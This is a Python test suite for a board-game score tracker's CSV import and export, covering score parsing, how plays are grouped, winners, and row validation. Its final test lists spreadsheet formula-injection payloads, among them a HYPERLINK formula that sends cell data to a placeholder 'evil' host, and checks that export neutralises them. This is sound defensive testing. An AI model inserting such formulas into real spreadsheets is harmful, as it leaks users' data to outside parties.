"""campaign import csv: a row a seat, with the headings that people write."""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
import time
from collections.abc import Sequence
from pathlib import Path

import pytest

from tests.fixtures import ETERNAL, ROOT, Refuses, Run, content

PLAYS = """\
Date;Game;Name;Points;Remark
2026-11-12;My City;Anna;20;
2026-11-12;My City;Ben;15+2;"late; tired"
2026-11-12;My City;Anna;3;
2026-11-12;My City;Ben;7;
2026-11-13;quadropolis;Ben;7;
2026-11-13;quadropolis;Anna;9;
2026-11-13;Azul;Anna;60;
"""


@pytest.fixture
def sheet(tmp_path: Path) -> Path:
    path = tmp_path / "plays.csv"
    path.write_text(PLAYS, encoding="utf-8-sig")
    return path


def scores(run: Run) -> list[dict[str, int]]:
    sessions = json.loads(run("session list --json").out)["sessions"]
    return [{row["names"][one["seat"]]: one["score"] for one in row["results"]} for row in sessions]


def test_rows_that_follow_each_other_are_plays(run: Run, sheet: Path, db: Path) -> None:
    output = run(f"import csv '{sheet}' --yes")
    assert output.code == 0, output.err
    assert "4 plays, 3 of our games: 3 new" in output.out
    assert scores(run) == [{"Anna": 20, "Ben": 17}, {"Ben": 7, "Anna": 3}, {"Anna": 9, "Ben": 7}]
    before = content(db)
    again = run(f"import csv '{sheet}'")
    assert (again.code, content(db)) == (0, before)
    assert run("audit --all").code == 0


@pytest.mark.parametrize("score", ["1.000", "1,000", "15+1.000", "12.000", "20 17"])
def test_a_score_that_may_be_a_thousand_or_one_is_left_out(
    run: Run, tmp_path: Path, score: str
) -> None:
    path = tmp_path / "plays.csv"
    rows = f"game;name;score\nquadropolis;Ben;20,0\nquadropolis;Anna;{score}\n"
    path.write_text(rows, "utf-8")
    output = run(f"import csv '{path}' --yes")
    assert output.code == 0, output.err
    assert "1 play with a score that is no whole number, or unclear such as 1.000" in " ".join(
        output.out.split()
    )


@pytest.mark.parametrize(("variant", "remarks"), [("", 1), ("first game", 1), ("Eternal", 0)])
def test_a_play_that_names_no_episode_is_said_to_be_kept_as_the_eternal_mode(
    run: Run, tmp_path: Path, variant: str, remarks: int
) -> None:
    path = tmp_path / "plays.csv"
    rows = f"game;name;score;variant\nMy City;Ben;20;{variant}\nMy City;Anna;17;{variant}\n"
    path.write_text(rows, "utf-8")
    shown = " ".join(run(f"import csv '{path}' --dry-run").out.split())
    remark = "of My City without an episode: kept as games of the eternal mode"
    assert shown.count(remark) == remarks


def test_the_beginning_of_a_title_is_asked_about(run: Run, tmp_path: Path) -> None:
    path = tmp_path / "plays.csv"
    path.write_text("game;name;score\nquadro;Ben;20\nquadro;Anna;17\n", "utf-8")
    shown = " ".join(run(f"import csv '{path}' --dry-run").out.split())
    assert '"quadro" may be Quadropolis: --game-is "quadro=quadropolis"' in shown


@pytest.mark.parametrize("column", ["minutes", "episode"])
def test_a_number_that_may_be_a_thousand_or_one_is_refused(
    refuses: Refuses, tmp_path: Path, column: str
) -> None:
    path = tmp_path / "plays.csv"
    path.write_text(f"game;name;score;{column}\nquadropolis;Ben;20;1.000\n", "utf-8")
    refuses(f"import csv '{path}' --yes", 7, "may be a thousand or one")


@pytest.mark.parametrize(
    ("end", "gap", "plays"),
    [
        ("\n", "", [{"Anna": 5, "Ben": 4, "Chen": 9, "Dora": 8}]),
        ("\n", ",,\n", [{"Anna": 5, "Ben": 4}, {"Chen": 9, "Dora": 8}]),
        ("\n", "\n\n", [{"Anna": 5, "Ben": 4}, {"Chen": 9, "Dora": 8}]),
        ("\r\r\n", "", [{"Anna": 5, "Ben": 4, "Chen": 9, "Dora": 8}]),  # by a faulty program
    ],
)
def test_an_empty_row_ends_a_play(
    run: Run, end: str, gap: str, plays: list[dict[str, int]]
) -> None:
    rows = ("game,player,score", "Quadropolis,Anna,5", "Quadropolis,Ben,4")
    others = ("Quadropolis,Chen,9", "Quadropolis,Dora,8")
    text = "".join(row + end for row in rows) + gap + "".join(row + end for row in others)
    assert run("import csv - --yes", text).code == 0
    assert scores(run) == plays


def test_rows_of_one_id_are_a_play_wherever_they_stand(run: Run) -> None:
    seats = ("1,My City,Anna,4", "2,My City,Anna,5", "1,My City,Ben,6", "2,My City,Ben,7")
    rows = "\n".join(("play,game,player,score", *seats))
    assert run("import csv - --yes", stdin=rows).code == 0
    assert scores(run) == [{"Ben": 6, "Anna": 4}, {"Ben": 7, "Anna": 5}]


@pytest.mark.parametrize("ids", [("", ""), ("7", "8")], ids=["without ids", "with ids"])
def test_two_equal_plays_of_a_day_are_two_and_come_once(run: Run, ids: tuple[str, str]) -> None:
    rows = "\n".join(
        f"{id},quadropolis,2026-11-12,{name},{score}"
        for id in ids
        for name, score in (("Anna", 4), ("Ben", 5))
    )
    text = f"play,game,played,player,score\n{rows}\n"
    assert "2 new" in run("import csv - --yes", stdin=text).out
    assert scores(run) == [{"Ben": 5, "Anna": 4}] * 2
    assert "0 new, 2 here already" in run("import csv - --yes", stdin=text).out


def test_composed_and_decomposed_letters_are_one_name(run: Run) -> None:
    names = ("Zo\u00eb", "Zoe\u0308")
    rows = "".join(
        f"{n},quadropolis,{name},{n}\n{n},quadropolis,Ben,9\n" for n, name in enumerate(names)
    )
    assert run("import csv - --yes", stdin=f"play,game,player,score\n{rows}").code == 0
    listed = json.loads(run("player list --json").out)["in_sessions"]
    assert {one["player"]: one["played"] for one in listed} == {"Zo\u00eb": 2, "Ben": 2}


def test_two_of_one_name_sit_at_two_seats(run: Run) -> None:
    rows = "play,game,player,score,seat\n1,My City,Anna,4,eagle\n1,My City,Anna,6,bear\n"
    assert run("import csv - --yes", stdin=rows).code == 0
    (row,) = json.loads(run("session list --json").out)["sessions"]
    assert {one["seat"]: one["score"] for one in row["results"]} == {"eagle": 4, "bear": 6}
    assert row["names"] == {"eagle": "Anna", "bear": "Anna"}


def test_what_was_exported_is_known_here_and_new_elsewhere(
    run: Run, tmp_path: Path, db: Path
) -> None:
    assert run(["session", "record", str(ETERNAL), "--yes"]).code == 0
    exported = tmp_path / "exported.csv"
    assert run(f"export csv plays -o '{exported}'").code == 0
    assert "0 new, 1 here already" in run(f"import csv '{exported}'").out
    shutil.move(db, tmp_path / "other.db")
    assert run(f"import csv '{exported}' --yes").code == 0
    here = json.loads(run("session show 1 --json").out)
    there = json.loads(run(f"session show 1 --json --db '{tmp_path / 'other.db'}'").out)
    assert (here["stated"], here["verdict"]) == (there["stated"], "unverifiable")


def test_the_winner_of_a_tie_comes_with_the_play(run: Run, tmp_path: Path, db: Path) -> None:
    record = ROOT / "tests/records/quadropolis_verified_tie_broken_by_inhabitants.toml"
    assert run(["session", "record", str(record), "--yes"]).code == 0
    exported = tmp_path / "exported.csv"
    assert run(f"export csv plays -o '{exported}'").code == 0
    shutil.move(db, tmp_path / "other.db")
    output = run(f"import csv '{exported}' --yes")
    assert "1 play with another winner than the scores give" in " ".join(output.out.split())
    assert "won there by p2" in run("session show 1").out
    assert "0 new, 1 here already" in run(f"import csv '{exported}' --yes").out
    once_more = run("export csv plays").out
    shutil.move(db, tmp_path / "second.db")
    assert run("import csv - --yes", stdin=once_more).code == 0
    assert "won there by p2" in run("session show 1").out


def test_a_corrected_day_leaves_who_won_and_a_corrected_result_only_what_still_holds(
    run: Run,
) -> None:
    rows = "".join(
        f"quadropolis,1,2026-11-12,{name},{score},{won},expert\n"
        for name, score, won in (("Anna", 9, ""), ("Ben", 9, "X"), ("Chen", 5, ""))
    )
    head = "game,play,played,player,score,winner,variant\n"
    assert run("import csv - --yes", stdin=head + rows).code == 0
    first = json.loads(run("session show 1 --json").out)["record"]

    def edited(old: str, new: str) -> str:
        edit = ["session", "edit", "1", "-", "--reason", "slip", "--yes"]
        assert run(edit, stdin=first.replace(old, new)).code == 0
        winners = [row.split(",")[20] for row in run("export csv plays").out.splitlines()[1:]]
        return " ".join([*winners, *run("session show 1").out.split()])

    for old, new in (("2026-11-12", "2026-11-13"), ("p3 = 5", "p3 = 6")):
        said = edited(old, new)
        assert said.startswith("false true false")
        assert "From a spreadsheet: results only, not proved, expert, won there by Ben" in said
    assert "won there" not in edited("p1 = 9", "p1 = 8")
    said = edited('"expert"', '"classic"')
    assert ("won there by Ben" in said, "expert" in said) == (True, False)


@pytest.mark.parametrize(
    ("names", "places", "winner"),
    [
        ('p1 = "Anna"\np2 = "Benno"', "false true", "Benno"),
        ('p1 = "Ben"\np2 = "Anna"', "true false", "Ben"),
        ('p1 = "Anna"\np2 = "Chen"', "false true", "Chen"),
        ('p1 = "Chen"\np2 = "Anna"', "false false", ""),
    ],
)
def test_who_won_and_who_began_stay_with_the_player(
    run: Run, names: str, places: str, winner: str
) -> None:
    """A new name is that of the same player, unless somebody moved to the other seat."""
    head = "game,play,played,player,score,winner,starts\n"
    rows = "quadropolis,1,2026-11-12,Anna,9,,\nquadropolis,1,2026-11-12,Ben,9,X,X\n"
    assert run("import csv - --yes", stdin=head + rows).code == 0
    record = json.loads(run("session show 1 --json").out)["record"]
    new = record.replace('p1 = "Anna"\np2 = "Ben"', names)
    edit = ["session", "edit", "1", "-", "--reason", "slip", "--yes"]
    assert run(edit, stdin=new).code == 0
    titles, *seats = [row.split(",") for row in run("export csv plays").out.splitlines()]
    won, starts = (
        " ".join(row[titles.index(column)] for row in seats) for column in ("winner", "starts")
    )
    said = " ".join(run("session show 1").out.split())
    if winner:
        assert (won, starts) == (places, places)
        assert f"won there by {winner}, first turn of {winner}" in said
    else:
        assert (won, starts) == ("true true", "false false")
        assert "won there" not in said


def test_a_winner_who_did_not_play_has_not_won(run: Run) -> None:
    """The other program had Ben win with fewer points; the record says that he was not there."""
    rows = "".join(
        f"quadropolis,1,2026-11-12,{name},{score},{won}\n"
        for name, score, won in (("Anna", 9, ""), ("Ben", 8, "X"), ("Chen", 5, ""))
    )
    head = "game,play,played,player,score,winner\n"
    assert run("import csv - --yes", stdin=head + rows).code == 0
    record = json.loads(run("session show 1 --json").out)["record"]
    edit = ["session", "edit", "1", "-", "--reason", "slip", "--yes"]
    new = record.replace('"Ben"', '"Chen"').replace('p3 = "Chen"\n', "")
    new = new.replace(', "p3"]', "]").replace("p3 = 5\n", "")
    output = run(edit, stdin=new)
    assert output.code == 0, output.err
    assert "won there" not in run("session show 1").out


@pytest.mark.parametrize(("yes", "no"), [("WAHR", "FALSCH"), ("VERO", "FALSO"), ("x", "")])
def test_yes_and_no_as_another_program_saves_them(
    run: Run, tmp_path: Path, db: Path, yes: str, no: str
) -> None:
    record = ROOT / "tests/records/quadropolis_verified_tie_broken_by_inhabitants.toml"
    assert run(["session", "record", str(record), "--yes"]).code == 0
    text = run("export csv plays").out.replace("true", yes).replace("false", no)
    shutil.move(db, tmp_path / "other.db")
    output = run("import csv - --yes", stdin=text)
    assert output.code == 0, output.err
    assert "won there by p2" in run("session show 1").out


def test_a_score_that_was_corrected_in_the_sheet_makes_no_second_play(run: Run, db: Path) -> None:
    head = "game,played,play,player,score\n"
    rows = "Machi Koro,2026-11-01,7,Anna,4\nMachi Koro,2026-11-01,7,Ben,3\n"
    assert run("import csv - --yes", stdin=head + rows).code == 0
    before = content(db)
    output = run("import csv - --yes", stdin=head + rows.replace("Ben,3", "Ben,2"))
    assert (output.code, content(db)) == (0, before)
    said = " ".join(output.out.split())
    assert "0 new, 1 here already" in said
    assert "1 Nov 2026, Machi Koro, Anna 4, Ben 2: session 1" in said
    assert "other scores" not in run("import csv - --yes", stdin=head + rows).out
    others = rows.replace("Anna", "Chen")
    assert "1 new, 0 here" in run("import csv - --yes", stdin=head + others).out


def test_the_mode_of_a_game_comes_with_the_play(run: Run, tmp_path: Path, db: Path) -> None:
    assert (
        run(
            "session record - -y",
            stdin=RESULTS.replace("classic", "expert").replace("NAME", '"Anna"'),
        ).code
        == 0
    )
    exported = tmp_path / "exported.csv"
    assert run(f"export csv plays -o '{exported}'").code == 0
    shutil.move(db, tmp_path / "other.db")
    assert run(f"import csv '{exported}' --yes").code == 0
    assert 'mode = "expert"' in json.loads(run("session show 1 --json").out)["record"]


def test_the_winner_of_a_tied_episode_comes_from_a_spreadsheet(begun: Run) -> None:
    rows = "".join(
        f"My City,1,2026-11-12,{name},{score},{won}\n"
        for name, score, won in (("Anna", 9, ""), ("Ben", 9, "X"), ("Chen", 5, ""), ("Dora", 5, ""))
    )
    text = f"game,episode,played,player,score,winner\n{rows}"
    assert begun("import csv - --episodes --yes", stdin=text).code == 0
    assert "won by bear" in " ".join(begun("status").out.split())


def winners(run: Run) -> set[str]:
    """The seats that have won a session."""
    rows = csv.DictReader(io.StringIO(run("export csv plays").out))
    return {row["seat"] for row in rows if row["winner"] == "true"}


@pytest.mark.parametrize(("score", "ranks"), [(4, []), (5, ["p1", "p2"])])
def test_a_correction_says_who_has_still_won_by_the_word_of_the_table(
    run: Run, score: int, ranks: list[str]
) -> None:
    """It said that another one comes first, which was not so afterwards."""
    rows = "Machi Koro,Anna,4,2026-11-03,\nMachi Koro,Ben,4,2026-11-03,yes\n"
    run("import csv - --yes", stdin=f"game,player,score,played,winner\n{rows}")
    record = json.loads(run("session show 1 --json").out)["record"]
    record = record.replace("11-03", "11-04").replace('"Anna"', '"Anna K."')
    record = record.replace("p1 = 4", f"p1 = {score}")
    before = winners(run)
    said = run("session edit 1 - --reason slip --yes", stdin=record).err
    assert sorted(re.findall(r"(p\d): .* points, rank", said)) == ranks
    assert before == {"p2"}
    assert winners(run) == ({"p1"} if ranks else {"p2"})
    assert (said.index("p2 Ben") < said.index("p1 Anna K.")) == (not ranks)


@pytest.mark.parametrize(
    ("scores", "stated", "ranks"),
    [
        ((9, 5, 5, 5), (1, 4, 2, 3), [1, 4, 2, 3]),
        ((9, 9, 5, 5), (2, 1, 4, 3), [2, 1, 4, 3]),
        ((9, 9, 5, 5), (1, 1, 3, 3), [1, 1, 3, 3]),
        ((9, 9, 9, 5), (2, 1, 2, 4), [2, 1, 2, 4]),
        ((9, 9, 5, 5), (1, 2, 3, 0), [1, 1, 3, 3]),
    ],
)
def test_the_ranks_of_a_tied_episode_come_from_a_spreadsheet(
    begun: Run, scores: Sequence[int], stated: Sequence[int], ranks: Sequence[int]
) -> None:
    """Without a word on who won, they say it also for a tie for the first place."""
    names = ("Anna", "Ben", "Chen", "Dora")
    rows = "".join(
        f"My City,1,2026-11-12,{name},{score},{rank}\n"
        for name, score, rank in zip(names, scores, stated, strict=True)
    )
    text = f"game,episode,played,player,score,rank\n{rows}"
    assert begun("import csv - --episodes --yes", stdin=text).code == 0
    sheets = json.loads(begun("episode show 1 --json").out)["sheets"]
    kept = {sheet["seat"]: sheet["rank"] for sheet in sheets}
    assert [kept[seat] for seat in ("eagle", "bear", "deer", "wolf")] == ranks


HEAD = "play,game,played,player,score,minutes\n"


@pytest.mark.parametrize(
    ("text", "words"),
    [
        ("", "no column game, player, score"),
        ("hello\n", "no column"),
        (HEAD + "1,My City,31.02.2026,Anna,3,\n", "line 2"),
        (HEAD + "1,My City,2026-11-12T20:00:00+02:00,Anna,3,\n", "2026-11-12"),
        (HEAD + "1,My City,2026-11-12,Anna,3,-5\n", "minutes is '-5'"),
        (
            HEAD + "1,My City,2026-11-12,Anna,3,1:75\n",
            "write minutes such as 75 or 1:15",
        ),
        (HEAD + "1,My City,2026-11-12,Anna\n", "4 cells under 6 headings"),
        (HEAD.replace("minutes", "winner") + "1,My City,,Anna,3,Ben\n", "winner is 'Ben'"),
        (HEAD + '1,My City,2026-11-12,"Anna', "not CSV that can be read"),
        (HEAD + "1,My City,,Anna,3,\n1,Quadropolis,,Ben,3,\n", "play 1 has another game in line 2"),
        (HEAD + "1,My City,,Anna,3,45\n1,My City,,Ben,3,50\n", "play 1 has another minutes in"),
        (
            "game,player,score,place\nMy City,Anna,3,Home\nMy City,Ben,3,Club\n",
            "the play has another place in line 2; leave a row empty between two plays",
        ),
        (
            "play,game,player,score,episode\na,My City,Anna,3,1\na,My City,Ben,3,2\n",
            "play a has another episode in line 2",
        ),
        (HEAD + "1,My City,,Anna,3,\n1,My City,,Anna,3,\n", "Anna is in play 1 twice"),
        (HEAD + f"1,My City,,{'x' * 10_000},3,\n", "at most 60 characters"),
        ("player,game,score,score\n", "two columns score"),
        (
            HEAD + ",My City,2026-11-12,Anna,9,\n,My City,,Ben,3,\n,My City,,Chen,4,\n",
            "played is empty",
        ),
        (HEAD + "1,My City,,Anna,9,\n,My City,,Ben,3,\n,My City,,Chen,4,\n", "play is empty"),
    ],
)
def test_a_wrong_row_is_refused_with_its_line(refuses: Refuses, text: str, words: str) -> None:
    refuses(
        "import csv - --yes", 7, words, "standard input, line", "Nothing was written.", stdin=text
    )


def test_plays_without_a_day_may_follow_others(run: Run) -> None:
    rows = ("1,My City,2026-11-12,Anna,9,", "1,My City,2026-11-12,Ben,3,")
    text = "\n".join((HEAD.strip(), *rows, ",My City,,Anna,5,", ",My City,,Ben,6,", ""))
    assert run("import csv - --yes", text).code == 0
    assert len(scores(run)) == 2


WIDE = {
    "headings": (",".join(f"c{number}" for number in range(100_000)), 7, "no column"),
    "seats": (
        "game,player,score\n" + "".join(f"machi-koro,P{seat},1\n" for seat in range(30_000)),
        0,
        "",
    ),
}


@pytest.mark.parametrize("kind", WIDE)
def test_a_small_file_of_many_names_is_read_at_once(run: Run, tmp_path: Path, kind: str) -> None:
    """A file of 500 kB took minutes."""
    text, code, words = WIDE[kind]
    (path := tmp_path / "plays.csv").write_text(text, "utf-8")
    before = time.process_time()
    output = run(f"import csv '{path}' --yes")
    assert time.process_time() - before < 10
    assert output.code == code, output.err
    assert words in output.err


def test_a_wrong_row_in_the_middle_keeps_no_half(run: Run, sheet: Path, db: Path) -> None:
    run("db upgrade")
    before = content(db)
    sheet.write_text(PLAYS.replace("2026-11-12;My City;Ben;7", "2026-02-30;My City;Ben;7"), "utf-8")
    refused = run(f"import csv '{sheet}' --yes")
    assert (refused.code, "line 5" in refused.err) == (7, True)
    assert content(db) == before


RESULTS = """
format = 1
game = "quadropolis"
edition = "1"
mode = "classic"
seats = ["p1", "p2"]
[names]
p1 = NAME
p2 = "Ben"
[result]
p1 = -8
p2 = 37
"""
RUNS = ("=1+1", "+1", "-1", "@SUM(1)", "'=1+1", "\uff1d1+1", '=HYPERLINK("http://evil/?"&A1,"x")')
"""What a spreadsheet takes for a formula, and a name that is the neutral form of one."""


@pytest.mark.parametrize("name", [*RUNS, "'Anna'", "O'Brien", "Anna - Ben"])
def test_a_name_is_no_formula_in_a_spreadsheet_and_comes_back_as_it_was(
    run: Run, tmp_path: Path, db: Path, name: str
) -> None:
    record = RESULTS.replace("NAME", json.dumps(name, ensure_ascii=False))
    assert run("session record - --yes", stdin=record).code == 0
    exported = tmp_path / "exported.csv"
    assert run(f"export csv plays -o '{exported}'").code == 0
    (row, _) = csv.DictReader(io.StringIO(exported.read_text("utf-8")))
    assert row["player"] == (f"'{name}" if name in RUNS else name)
    assert json.loads(run("export json plays").out.splitlines()[0])["player"] == name
    shutil.move(db, tmp_path / "other.db")
    assert run(f"import csv '{exported}' --yes").code == 0
    assert scores(run)[0][name] == int(row["score"])
